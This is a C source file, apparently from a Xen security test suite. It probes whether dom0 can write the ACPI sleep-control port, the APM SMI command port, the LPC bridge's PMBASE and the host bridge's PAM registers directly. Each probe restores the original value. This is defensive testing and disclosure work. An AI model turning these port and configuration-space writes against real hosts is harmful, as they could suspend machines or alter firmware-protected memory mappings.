/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Advisory: dom0 puts the host to sleep, or calls the firmware, by itself
 *
 * Claim:  dom0 reaches the registers that start S3 and system management
 *         interrupts, and the host bridge's, without Xen.
 * Method: port I/O to PM1a_CNT (as the FADT has it) and to the APM command
 *         port; the PAM registers in the host bridge's configuration; the LPC
 *         bridge's, which say at which port PM1a_CNT is.  Bits without an
 *         effect of their own are written, read back, and put back.
 * Stock:  dom0 is given these ports; configuration space is written as asked.
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/io.h>
#include <sys/mman.h>
#include <unistd.h>

#include "../attack.h"

#define FADT "/sys/firmware/acpi/tables/FACP"
#define FADT_PM1A_CNT 64
#define SLP_TYP_BIT (1u << 10)
#define APM_COMMAND 0xb2
#define HOST_BRIDGE "/sys/bus/pci/devices/0000:00:00.0/config"
#define PAM1 0x91

struct io
{
    unsigned int port, bytes;
    uint32_t old, new, now;
};

static uint32_t in(const struct io *io)
{
    return io->bytes == 1 ? inb(io->port) : inw(io->port);
}

static void out(const struct io *io, uint32_t value)
{
    if ( io->bytes == 1 )
        outb(value, io->port);
    else
        outw(value, io->port);
}

/* new is what is to be changed in old. */
static int write_port(void *arg)
{
    struct io *io = arg;

    if ( ioperm(io->port, io->bytes, 1) )
        return 1;
    io->old = in(io);
    io->new ^= io->old;
    out(io, io->new);
    io->now = in(io);
    out(io, io->old);
    return 0;
}

static enum verdict port(unsigned int port, unsigned int bytes,
                         uint32_t change)
{
    struct io *io = mmap(NULL, PAGE, PROT_READ | PROT_WRITE,
                         MAP_SHARED | MAP_ANONYMOUS, -1, 0);

    *io = (struct io){.port = port, .bytes = bytes, .new = change};
    if ( in_child(write_port, io) )
        return verdict(FAILURE, "port %#x refused", port);
    return verdict(io->now == io->new && io->now != io->old ? SUCCESS
                                                            : FAILURE,
                   "port %#x: %#x, then %#x", port, io->old, io->now);
}

static enum verdict port_pm1a(struct victim *v)
{
    uint32_t address = 0;
    FILE *f = fopen(FADT, "r");

    (void)v;
    if ( f )
    {
        if ( fseek(f, FADT_PM1A_CNT, SEEK_SET) ||
             fread(&address, sizeof(address), 1, f) != 1 )
            address = 0;
        fclose(f);
    }
    if ( !address )
        return verdict(UNPROVEN, "no PM1a_CNT");
    return port(address, 2, SLP_TYP_BIT);
}
ATTACK(port_pm1a, .needs = NO_VICTIM);

static enum verdict port_smi(struct victim *v)
{
    (void)v;
    return port(APM_COMMAND, 1, 0x5a);
}
ATTACK(port_smi, .needs = NO_VICTIM);

/* The LPC bridge puts the registers where dom0 has ports. */
#define LPC_BRIDGE "/sys/bus/pci/devices/0000:00:1f.0/config"
#define PMBASE 0x40
#define PMBASE_IO 1
#define ELSEWHERE 0xb000
#define PM1_CNT 4

static enum verdict pm1_moved(struct victim *v)
{
    int config = open(LPC_BRIDGE, O_RDWR);
    uint32_t old = 0, new = ELSEWHERE | PMBASE_IO, now = 0;
    enum verdict result = FAILURE;

    (void)v;
    if ( config < 0 || pread(config, &old, 4, PMBASE) != 4 )
        return verdict(UNPROVEN, "no LPC bridge");
    if ( pwrite(config, &new, 4, PMBASE) == 4 )
        result = port(ELSEWHERE + PM1_CNT, 2, SLP_TYP_BIT);
    if ( pread(config, &now, 4, PMBASE) != 4 ||
         (now != old && pwrite(config, &old, 4, PMBASE) != 4) )
        return verdict(ERROR, "PMBASE cannot be put back");
    close(config);
    return now == new ? result
                      : verdict(FAILURE, "PMBASE: %#x, then %#x", old, now);
}
ATTACK(pm1_moved, .needs = NO_VICTIM);

static enum verdict host_bridge(struct victim *v)
{
    int config = open(HOST_BRIDGE, O_RDWR);
    uint8_t old = 0, new, now = 0;

    (void)v;
    if ( config < 0 || pread(config, &old, 1, PAM1) != 1 )
        return verdict(UNPROVEN, "no host bridge");
    new = old ^ 0x22;
    if ( pwrite(config, &new, 1, PAM1) != 1 ||
         pread(config, &now, 1, PAM1) != 1 )
        return verdict(FAILURE, "refused");
    if ( pwrite(config, &old, 1, PAM1) != 1 )
        return verdict(ERROR, "PAM1 cannot be put back");
    close(config);
    return verdict(now == new ? SUCCESS : FAILURE, "PAM1: %#x, then %#x", old,
                   now);
}
ATTACK(host_bridge, .needs = NO_VICTIM);
